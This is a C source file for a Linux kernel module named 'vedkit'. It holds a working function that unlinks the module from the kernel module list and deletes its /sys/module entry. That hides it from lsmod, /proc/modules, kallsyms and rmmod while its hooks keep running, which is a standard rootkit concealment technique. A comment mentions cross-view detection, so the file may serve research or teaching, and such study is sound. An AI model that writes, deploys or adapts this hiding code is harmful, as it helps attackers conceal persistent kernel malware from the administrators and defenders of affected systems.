// SPDX-License-Identifier: GPL-2.0
/*
 * hide_module: take vedkit off the module list (/proc/modules, lsmod,
 * /proc/kallsyms' module symbols, rmmod) and out of /sys/module, while its
 * code stays mapped and its hooks keep running.
 *
 * The module stays in the kernel's module address tree (mod_tree): that is
 * what lets exceptions, kprobes and ftrace work on its code, and what a
 * cross-view detector can compare with the list.
 */
#define pr_fmt(fmt) "vedkit: " fmt

#include <linux/kobject.h>
#include <linux/module.h>
#include <linux/mutex.h>
#include <linux/rculist.h>

#include "vedkit.h"

int vk_hide_module_init(void)
{
	/* The list is protected by module_mutex, which is not exported. */
	struct mutex *module_mutex = (struct mutex *)vk_lookup("module_mutex");

	if (!module_mutex)
		return -ENOENT;
	mutex_lock(module_mutex);
	list_del_rcu(&THIS_MODULE->list);
	mutex_unlock(module_mutex);
	/*
	 * Readers walk the list under RCU (kallsyms); once they are done,
	 * point the entry at itself so that nothing follows a poisoned link.
	 */
	synchronize_rcu();
	INIT_LIST_HEAD(&THIS_MODULE->list);

	/*
	 * /sys/module/vedkit.  The uevent that do_init_module() sends after we
	 * return finds no sysfs directory and no listener: harmless.
	 */
	kobject_del(&THIS_MODULE->mkobj.kobj);
	pr_info("unlinked from the module list and /sys/module\n");
	return 0;
}
